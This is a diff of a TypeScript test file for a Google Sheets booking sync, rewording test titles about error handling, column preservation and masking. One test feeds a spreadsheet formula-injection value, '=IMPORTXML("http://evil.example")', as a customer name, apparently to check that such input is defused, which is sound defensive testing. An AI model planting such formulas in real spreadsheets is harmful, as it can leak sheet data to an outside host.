@@ -23,7 +23,7 @@ const errorOf = (id: string, waitMs?: number) =>
     (error: SyncError) => error,
   )
 
-test('the first record makes the tab and its header row, the next ones only their rows', async () => {
+test('creates tab and header with the first record, then only rows', async () => {
   await deliver('a')
   await deliver('b', { full_name: '=IMPORTXML("http://evil.example")' })
   expect(server.rowsOf('Bookings')).toEqual([
@@ -45,12 +45,12 @@ test('the first record makes the tab and its header row, the next ones only thei
   expect(server.asked.filter(({ url }) => url.pathname.endsWith(':batchUpdate'))).toHaveLength(1)
 })
 
-test('inquiries have a tab of their own', async () => {
+test('keeps inquiries in their own tab', async () => {
   await sheet.deliver({ entity: 'inquiry', id: 'i', fields: [['id', 'i']] }, AbortSignal.timeout(5_000))
   expect(server.rowsOf('Inquiries')).toEqual([{ id: 'i' }])
 })
 
-test('a record that comes again changes its row', async () => {
+test('changes the row of a record that is delivered again', async () => {
   for (const id of ['a', 'b', 'c']) await deliver(id)
   await deliver('b', { version: '2' })
   expect(server.rowsOf('Bookings').map(({ id, version }) => [id, version])).toEqual([
@@ -60,7 +60,7 @@ test('a record that comes again changes its row', async () => {
   ])
 })
 
-test('columns that staff added or moved stay, and what is missing comes behind them', async () => {
+test('keeps columns that staff added or moved, and adds missing ones after them', async () => {
   server.addTab('Bookings', 3, [
     ['Called', 'version', 'id'],
     ['yes, on Sunday', 1, 'a'],
@@ -73,34 +73,34 @@ test('columns that staff added or moved stay, and what is missing comes behind t
   ])
 })
 
-test('a tab that holds something else is left alone', async () => {
+test('leaves a tab with something else unchanged', async () => {
   server.addTab('Bookings', 26, [['Salaries'], ['Nobody may see this']])
   expect((await errorOf('a'))?.reason).toBe('unusable')
   expect(server.tabs.get('Bookings')?.rows).toEqual([['Salaries'], ['Nobody may see this']])
 })
 
-test('document numbers are masked where the settings say so', async () => {
+test('masks document numbers when the settings require it', async () => {
   sheet = createGoogleSync({ ...server.settings, masksDocuments: true })
   await deliver('a')
   expect(server.rowsOf('Bookings')[0]).toMatchObject({ national_id: '******9940', license_number: '******4019' })
 })
 
-describe('a target that', () => {
+describe('with a target that', () => {
   beforeEach(() => deliver('before'))
 
   test.each<[string, Misbehaviour, string]>([
     ['fails', { status: 500 }, 'unreachable'],
-    ['is down for repairs', { status: 503 }, 'unreachable'],
+    ['is under maintenance', { status: 503 }, 'unreachable'],
     ['wants fewer requests', { status: 429 }, 'tooManyRequests'],
-    ['does not let us in', { status: 403 }, 'credential'],
-    ['has no such spreadsheet', { status: 404 }, 'notFound'],
+    ['refuses access', { status: 403 }, 'credential'],
+    ['does not have the spreadsheet', { status: 404 }, 'notFound'],
     ['does not understand', { status: 422 }, 'refused'],
-    ['talks nonsense', 'nonsense', 'nonsense'],
+    ['answers no JSON', 'nonsense', 'nonsense'],
     ['answers something else', { status: 200, body: { values: 'many' } }, 'nonsense'],
     ['answers an empty object', { status: 200, body: [] }, 'nonsense'],
-    ['leads elsewhere', { status: 302, headers: { location: 'http://127.0.0.1:9/' } }, 'refused'],
+    ['redirects', { status: 302, headers: { location: 'http://127.0.0.1:9/' } }, 'refused'],
     ['drops the connection', 'drop', 'unreachable'],
-  ])('%s is a fault with its reason, and takes nothing', async (_what, how, reason) => {
+  ])('%s, fails with the reason and stores nothing', async (_what, how, reason) => {
     server.misbehave(how)
     const error = await errorOf('a')
     expect(error?.reason).toBe(reason)
@@ -113,24 +113,24 @@ describe('a target that', () => {
     expect(server.rowsOf('Bookings').map(({ id }) => id)).toEqual(['before', 'a'])
   })
 
-  test('hangs is given up in time', async () => {
+  test('hangs, stops waiting in time', async () => {
     server.misbehave('hang')
     expect((await errorOf('a', 100))?.reason).toBe('timedOut')
   })
 
-  test('says for how long it wants to be left alone is heard', async () => {
+  test('sends Retry-After, passes it on', async () => {
     server.misbehave({ status: 429, headers: { 'retry-after': '77' } })
     expect(await errorOf('a')).toMatchObject({ reason: 'tooManyRequests', retryAfterSeconds: 77 })
   })
 
-  test('no longer knows our token gives a new one', async () => {
+  test('revoked the token, requests a new one', async () => {
     server.revoke()
     expect((await errorOf('a'))?.reason).toBe('credential')
     await deliver('a')
     expect(server.rowsOf('Bookings')).toHaveLength(2)
   })
 
-  test('wrote the row, but whose answer got lost, has one row after the next try', async () => {
+  test('stored the row but lost the response, has one row after the next attempt', async () => {
     const wasAsked = server.asked.length
     await deliver('probe')
     const requests = server.asked.length - wasAsked
@@ -148,16 +148,16 @@ describe('a target that', () => {
 test.each<[string, Misbehaviour, string]>([
   ['fails', { status: 500 }, 'unreachable'],
   ['wants fewer requests', { status: 429 }, 'tooManyRequests'],
-  ['talks nonsense', 'nonsense', 'nonsense'],
+  ['answers no JSON', 'nonsense', 'nonsense'],
   ['drops the connection', 'drop', 'unreachable'],
-])('a token endpoint that %s is named', async (_what, how, reason) => {
+])('names the reason when the token endpoint %s', async (_what, how, reason) => {
   server.misbehave(how)
   expect((await errorOf('a'))?.reason).toBe(reason)
   server.misbehave(undefined)
   await deliver('a')
 })
 
-test('a token endpoint that hangs is given up in time', async () => {
+test('stops waiting for a token endpoint that hangs', async () => {
   server.misbehave('hang')
   expect((await errorOf('a', 100))?.reason).toBe('timedOut')
 })
@@ -168,14 +168,14 @@ test.each([
     generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
   ],
   ['that is damaged', '-----BEGIN PRIVATE KEY-----\nbm90IGEga2V5\n-----END PRIVATE KEY-----\n'],
-])('a key %s is a wrong credential', async (_what, key) => {
+])('reports a key %s as a wrong credential', async (_what, key) => {
   sheet = createGoogleSync({ ...server.settings, key: { ...server.settings.key, private_key: key } })
   const error = await errorOf('a')
   expect(error?.reason).toBe('credential')
   expect(error?.message).not.toContain('BEGIN')
 })
 
-test('two processes that begin at the same moment make one tab, one header and a row per record', async () => {
+test('creates one tab, one header and a row per record when two processes begin at once', async () => {
   const other = createGoogleSync(server.settings)
   await Promise.all([deliver('a'), other.deliver(bookingRecord('b'), AbortSignal.timeout(5_000))])
   expect(server.tabs.size).toBe(1)
